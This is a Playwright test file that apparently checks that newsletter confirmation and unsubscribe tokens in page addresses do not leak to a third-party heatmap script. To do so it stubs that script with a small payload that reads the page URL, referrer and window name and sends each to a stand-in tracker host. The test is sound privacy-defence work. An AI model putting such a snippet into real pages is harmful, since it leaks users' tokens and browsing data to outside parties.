import type { Page } from '@playwright/test';
import { EVERYTHING } from '#domain/privacy/consent.ts';
import { pathTo } from '#domain/site/routes.ts';
import { chat, eventsOf, openedWith, shell, test } from './tracked-parts.ts';
import { expect } from './watched-page.ts';

const TOKEN = 'b25lLXRpbWU';
const HEATMAP = 'https://heat.tracker.example/heat-42.js';

/** Sends every address it can read to its maker. */
const CURIOUS = `
  const [{ name }] = performance.getEntriesByType('navigation');
  for (const address of [location.href, document.referrer, name]) {
    fetch('https://heat.tracker.example/collect?at=' + encodeURIComponent(address), {
      mode: 'no-cors',
    });
  }`;

for (const id of ['newsletter-confirm', 'newsletter-unsubscribe'] as const) {
  test(`whatever was agreed to, no other maker learns the token in the address of ${id}`, async ({
    page,
    context,
    asked,
  }) => {
    await page.route(HEATMAP, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: CURIOUS }),
    );
    await openedWith(page, context, EVERYTHING, `${pathTo(id, '')}?token=${TOKEN}`);
    // What is agreed to starts all at once: the first event says that it has.
    await seen(page, id);
    await expect(page.getByRole('button', { name: chat.open })).toHaveCount(0);

    // The address stays readable where the visitor goes from here, in this document and in the next.
    const footer = page.getByRole('contentinfo');
    await footer.getByRole('link', { name: shell.footer.pages.faq }).click();
    await seen(page, 'faq');
    await page.goto(`${pathTo(id, '')}?token=${TOKEN}`);
    await page.evaluate((path) => location.assign(path), pathTo('contact', ''));
    await page.waitForURL('/contact');
    await page.keyboard.press('Shift');
    await seen(page, 'contact');
    expect(asked).toEqual([]);
  });
}

async function seen(page: Page, id: string): Promise<void> {
  const pages = async () => (await eventsOf(page)).map(({ page: on }) => on);
  await expect.poll(pages).toContain(id);
}
